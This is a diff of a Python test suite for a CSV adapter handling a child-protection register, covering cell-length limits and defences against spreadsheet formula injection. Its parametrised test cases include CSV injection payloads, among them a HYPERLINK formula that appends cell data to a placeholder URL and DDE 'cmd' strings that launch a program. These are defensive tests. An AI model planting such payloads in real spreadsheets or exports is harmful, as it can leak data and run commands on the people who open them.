@@ -18,6 +18,7 @@ from adapters._base import Adapter, AdapterError, Fate, Translation
 from adapters.caf_register_csv import (
     ADAPTER,
     COLUMNS,
+    MAX_CELL_CHARS,
     OUTCOME_TO_WORD,
     Progress,
     iter_rows,
@@ -491,12 +492,58 @@ def test_row_rules(cells: dict[str, str], location: str, rule: str) -> None:
     assert rejection.problems[0].rule.startswith(rule)
 
 
-def test_a_cell_over_the_csv_size_limit_rejects_only_its_row() -> None:
-    huge = with_cells(EXAMPLE_ROWS[1], lp_phone="9" * 200_000)
-    translation = translate(register([EXAMPLE_ROWS[0], huge, EXAMPLE_ROWS[2]]))
-    assert len(translation.episodes) == 2
-    assert [r.location for r in translation.rejected] == ["row 3, column *"]
-    assert translation.rejected[0].problems[0].rule == "csv.syntax"
+def test_a_cell_over_the_register_limit_rejects_only_its_row() -> None:
+    huge = with_cells(EXAMPLE_ROWS[1], child_surname="M" * (MAX_CELL_CHARS + 1))
+    longest = with_cells(EXAMPLE_ROWS[2], lp_phone="9" * MAX_CELL_CHARS)  # at the limit: read
+    translation = translate(register([EXAMPLE_ROWS[0], huge, longest]))
+    assert [e.local_ref for e in translation.episodes] == [EXAMPLE_ROWS[0][0], EXAMPLE_ROWS[2][0]]
+    [rejection] = translation.rejected
+    assert rejection.location == "row 3, column child_surname"
+    assert [p.rule for p in rejection.problems] == ["csv.cell_too_long"]
+    assert "MMM" not in str(rejection)
+
+
+@pytest.mark.parametrize("process_limit", [1 << 30, 1_000], ids=["raised", "lowered"])
+def test_the_cell_limit_is_the_registers_whatever_the_csv_modules(process_limit: int) -> None:
+    """`csv.field_size_limit` is one setting for the whole process: any other code may change it.
+    Raised, it let a 3 MB surname through; lowered, it refused ordinary cells as `csv.syntax`."""
+    surname = with_cells(EXAMPLE_ROWS[0], child_surname="M" * 3_000_000)
+    phone = with_cells(EXAMPLE_ROWS[1], lp_phone="9" * 5_000)
+    data = register([surname, phone, EXAMPLE_ROWS[2]])
+    before = csv.field_size_limit(process_limit)
+    try:
+        translation = translate(data)
+        assert csv.field_size_limit() == process_limit  # put back as it was found
+    finally:
+        csv.field_size_limit(before)
+    assert [e.local_ref for e in translation.episodes] == [r[0] for r in EXAMPLE_ROWS[1:]]
+    assert [(r.location, [p.rule for p in r.problems]) for r in translation.rejected] == [
+        ("row 2, column child_surname", ["csv.cell_too_long"])
+    ]
+
+
+def test_a_long_cell_is_located_in_its_column_and_no_row_is_lost() -> None:
+    # Over the csv module's own limit, its error stopped a quoted cell half-way, column unknown,
+    # and the rest of the cell was read as rows of its own.
+    lines = "a line of notes\r\n" * (MAX_CELL_CHARS // 17 + 1)
+    header = [*COLUMNS, "Notes"]
+    rows = [[*EXAMPLE_ROWS[0], lines], [*EXAMPLE_ROWS[1], "short"], [*EXAMPLE_ROWS[2], ""]]
+    translation = translate(register(rows, header))
+    assert [e.local_ref for e in translation.episodes] == [r[0] for r in EXAMPLE_ROWS[1:]]
+    [rejection] = translation.rejected
+    assert [(p.where, p.rule) for p in rejection.problems] == [
+        ("row 2, column Notes", "csv.cell_too_long"),
+        ("row 2, column *", "csv.lines_taken_in"),
+    ]
+    [first, second] = translate(register(rows[1:], header)).episodes  # the rows after it: as ever
+    assert [first.local_ref, second.local_ref] == [r[0] for r in EXAMPLE_ROWS[1:]]
+
+
+def test_a_header_cell_over_the_limit_refuses_the_file() -> None:
+    with pytest.raises(AdapterError) as caught:
+        translate(register(EXAMPLE_ROWS, [*COLUMNS, "N" * (MAX_CELL_CHARS + 1)]))
+    assert caught.value.code == "payload_too_large"
+    assert caught.value.location == f"row 1, column {len(COLUMNS) + 1}"
 
 
 def test_a_control_character_rejects_its_row() -> None:
@@ -719,21 +766,119 @@ def test_the_lines_a_stray_quote_takes_in_are_named(rows: int) -> None:
     assert accounted >= rows
 
 
-@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x")', "+44 20 7000 0000", "-", "@SUM(A1)"])
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://x")',
+        "@SUM(A1)",
+        '-HYPERLINK("http://x?"&A1)',
+        "+cmd|' /C calc'!A0",
+        "-1+1+cmd|' /C calc'!A0",
+        "- see notes",  # a text, but a spreadsheet would take it for a formula (and fail)
+    ],
+)
 def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back(cell: str) -> None:
     """CSV injection: a value from one borough must not become a formula in another's spreadsheet."""
     row = with_cells(EXAMPLE_ROWS[0], child_surname=cell, lp_phone=cell)
     [episode] = translate(register([row])).episodes
     written = ADAPTER.from_national([episode])
     cells = dict(zip(COLUMNS, rows_of(written)[1], strict=False))
-    assert cells["child_surname"] == "'" + cell
+    assert cells["child_surname"] == cells["lp_phone"] == "'" + cell
     [back] = translate(written).episodes
     assert back.child.family_name == episode.child.family_name == cell
+    assert back.extensions[EXT]["lp_phone"] == cell
 
 
-@given(st.text(alphabet="'=+-@a \t", max_size=6))
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "+44 20 7373 4422",
+        "+44 (0)20 7373 4422",
+        "-12.5",
+        "-1,000",
+        "-",
+        "+",
+        "'Connor",  # an apostrophe that guards nothing is the value's own
+        "O'Brien",
+        "'",
+        "''",
+    ],
+)
+def test_a_cell_no_spreadsheet_would_run_comes_back_as_it_was(cell: str) -> None:
+    """Issue 4: a register read and written back gives the same cells. Only cells that could run as
+    a formula are guarded: a sign before a number or telephone number cannot."""
+    row = [*with_cells(EXAMPLE_ROWS[1], child_surname=cell, lp_phone=cell), cell]
+    data = register([row], [*COLUMNS, "Notes"])
+    [episode] = translate(data).episodes
+    assert episode.child.family_name == episode.extensions[EXT]["lp_phone"] == cell
+    assert episode.extensions[EXT]["extra_columns"] == {"Notes": cell}
+    assert ADAPTER.from_national([episode]) == data
+
+
+@pytest.mark.parametrize("cell", [' =HYPERLINK("x")', "\n=1+1", "  @SUM(A1)", " -A1", "\t=A1"])
+def test_an_extra_cell_that_runs_after_leading_spaces_is_guarded(cell: str) -> None:
+    # Extra columns are kept verbatim, spaces too; some spreadsheets take them off, then run it.
+    header = [*COLUMNS, "Notes", cell]
+    [episode] = translate(register([[*EXAMPLE_ROWS[0], cell, "n"]], header)).episodes
+    written = ADAPTER.from_national([episode])
+    assert rows_of(written)[0][-1] == "'" + cell
+    assert rows_of(written)[1][-2:] == ["'" + cell, "n"]
+    [back] = translate(written).episodes
+    assert back.extensions[EXT]["extra_columns"] == {"Notes": cell, cell: "n"}
+
+
+def _could_run(cell: str) -> bool:
+    """The rule, said once more independently: a spreadsheet may take off leading whitespace (and
+    OWASP names a leading tab or CR), then run `=` and `@`, and a sign before anything but a
+    number or telephone shape."""
+    if cell[:1] in ("\t", "\r"):
+        return True
+    text = cell.lstrip()
+    if text[:1] in ("=", "@"):
+        return True
+    return text[:1] in ("+", "-") and not set(text[1:]) <= set("0123456789 ().,-")
+
+
+@given(st.text(alphabet="'=+-@a1 .,()|\t\n\r", max_size=8))
 def test_guarding_is_undone_exactly(cell: str) -> None:
+    runs = _could_run(cell.lstrip("'"))
+    assert guarded(cell) == ("'" + cell if runs else cell)  # only what could run
     assert unguarded(guarded(cell)) == cell
-    assert not guarded(cell).lstrip("'").startswith(("=", "+", "-", "@", "\t")) or (
-        guarded(cell).startswith("'")
+    # Read and written back, a cell is unchanged unless it could run and came unguarded.
+    assert (guarded(unguarded(cell)) == cell) is (cell.startswith("'") or not runs)
+
+
+_LEADS = st.text(alphabet="=+-@' \t\n", max_size=4)
+_BODIES = st.sampled_from(
+    ["44 20 7373 4422", "12.5", 'HYPERLINK("x")', "SUM(A1)", "cmd|' /C calc'!A0", "", "'"]
+) | st.text(_TEXT_CHARACTERS, max_size=8)
+_LEADING = st.builds(str.__add__, _LEADS, _BODIES)
+_CELL_TEXT = _LEADING.map(str.strip).filter(bool)  # a register column is read without padding
+_TEXT_COLUMNS = ("initiating_agency", "lead_practitioner", "lp_agency", "lp_phone")
+
+
+@given(
+    local_ref=_CELL_TEXT,
+    names=st.tuples(_CELL_TEXT, _CELL_TEXT),
+    kept=st.tuples(*(_CELL_TEXT for _ in _TEXT_COLUMNS)),
+    notes=_LEADING,
+)
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+def test_text_written_and_read_back_is_the_same(
+    local_ref: str, names: tuple[str, str], kept: tuple[str, ...], notes: str
+) -> None:
+    """A register written by us and read back gives the same values: leading `=+-@'`, spaces."""
+    values = dict(zip(_TEXT_COLUMNS, kept, strict=True))
+    assume(values["lp_agency"] != values["initiating_agency"])  # else a national lead professional
+    base = translate(EXAMPLE.read_bytes()).episodes[1]
+    child = base.child.model_copy(update={"given_names": names[0], "family_name": names[1]})
+    extensions = {EXT: {**base.extensions[EXT], **values, "extra_columns": {"Notes": notes}}}
+    episode = base.model_copy(
+        update={"local_ref": local_ref, "child": child, "extensions": extensions}
     )
+    translation = translate(ADAPTER.from_national([episode]))
+    assert translation.rejected == []
+    [back] = translation.episodes
+    assert back.local_ref == local_ref
+    assert (back.child.given_names, back.child.family_name) == names
+    assert back.extensions == episode.extensions
